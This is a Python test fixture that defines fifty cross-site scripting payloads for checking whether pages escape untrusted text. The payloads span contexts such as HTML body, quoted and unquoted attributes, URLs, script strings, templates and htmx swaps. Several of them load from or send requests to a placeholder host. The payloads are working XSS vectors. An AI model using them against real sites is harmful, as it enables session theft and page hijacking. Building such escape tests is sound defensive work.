"""Fifty texts that would run a script, or have the page do something, where a page took them for
markup. Each tells of itself: by its number, whether it calls `ran`, asks a foreign host or leaves
an element with the attribute `xss` (tests/browser/snare.py)."""

from __future__ import annotations

from dataclasses import dataclass
from enum import Enum

CANARY = "canary.invalid"
"""A host that is nowhere: whoever asks for it was told to by a payload."""


class Home(Enum):
    """Where in a page a payload is at home: a page that does not escape, with `{}` in its place."""

    TEXT = "<div>{}</div>"
    DOUBLE = '<p title="{}">x</p>'
    SINGLE = "<p title='{}'>x</p>"
    UNQUOTED = "<p title={}>x</p>"
    ADDRESS = '<a href="{}">x</a>'
    TEXTAREA = "<textarea>{}</textarea>"
    TITLE = "<title>{}</title>"
    DATA = '<script type="application/json">["{}"]</script>'
    STRING = "<script>const text = '{}';</script>"
    COMMENT = "<!-- {} -->"
    TEMPLATE = "<p>{}</p>"
    """What is taken for the text of a template, and not for a value."""
    SWAP = "<main id='main' hx-get='/swapped' hx-trigger='load' hx-swap='innerHTML'></main>{}"
    """What htmx puts into a page."""


@dataclass(frozen=True)
class Payload:
    """One of them."""

    number: int
    home: Home
    text: str
    is_inert: bool = False
    """Whether a browser that knows the encoding of a page never takes it for markup."""

    @property
    def raw(self) -> bytes:
        """It as bytes; the surrogates in it stand for bytes that are not UTF-8."""
        return self.text.encode("utf-8", "surrogateescape")


_IMG = "<img xss=# src=x onerror=ran(#)>"
_FOCUS = "xss=# onfocus=ran(#) autofocus tabindex=0"
_BY_HOME: dict[Home, tuple[str, ...]] = {
    Home.TEXT: (
        "<script xss=#>ran(#)</script>",
        f"<ScRiPt xss=# src=//{CANARY}/#></ScRiPt>",
        _IMG,
        "<body xss=# onload=ran(#)>",
        f"<input {_FOCUS}>",
        "<details xss=# open ontoggle=ran(#)>",
        "<style xss=#>@keyframes k{}</style><b style='animation:k 1s' onanimationstart=ran(#)>",
        "<svg xss=# onload=ran(#)>",
        "<svg><animate xss=# onbegin=ran(#) attributeName=x dur=1s>",
        "<svg><script xss=#>ran&lpar;#)</script>",
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img xss=# title="--&gt;&lt;img src=x onerror=ran(#)&gt;">',
        f'<svg></p><style><a id="</style>{_IMG}">',
        f'<noscript><p title="</noscript>{_IMG}">',
        '<iframe xss=# srcdoc="<script>ran(#)</script>"></iframe>',
        "<iframe xss=# src=javascript:parent.ran(#)></iframe>",
        f"<object xss=# data=//{CANARY}/#></object>",
        f"<base xss=# href=//{CANARY}/#/>",
        f'<meta xss=# http-equiv=refresh content="0;url=//{CANARY}/#">',
        f"<link xss=# rel=stylesheet href=//{CANARY}/#>",
        f"<style xss=#>@import '//{CANARY}/#';*{{color:red}}</style>",
        f"<form xss=# action=//{CANARY}/#><button>Save</button></form>",
        "<button xss=# formaction=javascript:ran(#)>Start</button>",
        f"<a xss=# href=javascript:ran(#) ping=//{CANARY}/#>x</a>",
        "<video><source xss=# src=x onerror=ran(#)></video>",
        f"<template shadowrootmode=open>{_IMG}</template>",
        f"<img xss=# src='//{CANARY}/#?",
        "<b xss=# hx-on:mouseover=ran(#) data-hx-on:load=ran(#)>x</b>",
        f"<b xss=# hx-get=//{CANARY}/# hx-trigger=load>x</b>",
        "<b xss=# hx-vals='js:{a:ran(#)}' hx-get=/ hx-trigger=load>x</b>",
        "\u202e\u2066<svg xss=# onload=ran(#)>\u2069\u200b",
        "<img xss=# src=x\0 onerror=ran(#)>",
    ),
    Home.DOUBLE: (
        f'" {_FOCUS} x="',
        f'">{_IMG}',
        f'"\n{_FOCUS.replace(" ", chr(12))}\t/x="',
    ),
    Home.SINGLE: (f"' {_FOCUS} x='", '\'><svg/xss="#"/onload="ran(#)">'),
    Home.UNQUOTED: (f"x {_FOCUS}",),
    Home.ADDRESS: (
        "javascript:ran(#)",
        "\tJava\tScript\t:ran(#)//",
        "data:text/html,<script xss=#>ran(#)</script>",
        f"//{CANARY}/#",
    ),
    Home.TEXTAREA: (f"</textarea>{_IMG}",),
    Home.TITLE: ("</title><script xss=#>ran(#)</script>",),
    Home.DATA: ("</script><script xss=#>ran(#)</script>",),
    Home.STRING: ("\\';ran(#);//';ran(#);//",),
    Home.COMMENT: (f"]]>--!>{_IMG}",),
    Home.TEMPLATE: ("{{ 'xss-ran-' ~ # }}${'xss-ran-' + #}{% if 1 %}xss-ran-{# #}#{% endif %}",),
    Home.SWAP: ("<hx-partial xss=# hx-target=body hx-swap=beforeend><script>ran(#)</script>",),
}
_INERT = (
    "+ADw-img xss=# src=x onerror=ran(#)+AD4-",  # UTF-7
    "\udcc0\udcbcimg xss=# src=x onerror=ran(#)\udcc0\udcbe",  # "<" and ">" in two bytes each
)


def _all() -> tuple[Payload, ...]:
    homes = [(home, text) for home, texts in _BY_HOME.items() for text in texts]
    homes += [(Home.TEXT, text) for text in _INERT]
    return tuple(
        # A comment of the template keeps its signs.
        Payload(n, home, text.replace("{# #}", "\1").replace("#", str(n)).replace("\1", "{# #}"),
                text in _INERT)
        for n, (home, text) in enumerate(homes, start=1)
    )  # fmt: skip


PAYLOADS = _all()
COUNT = 50


def several(*homes: Home) -> str:
    """Return the last payload of each of these homes as one text, which is at home in all."""
    last = {one.home: one.text for one in PAYLOADS if not one.is_inert}
    return " ".join(last[home] for home in homes)
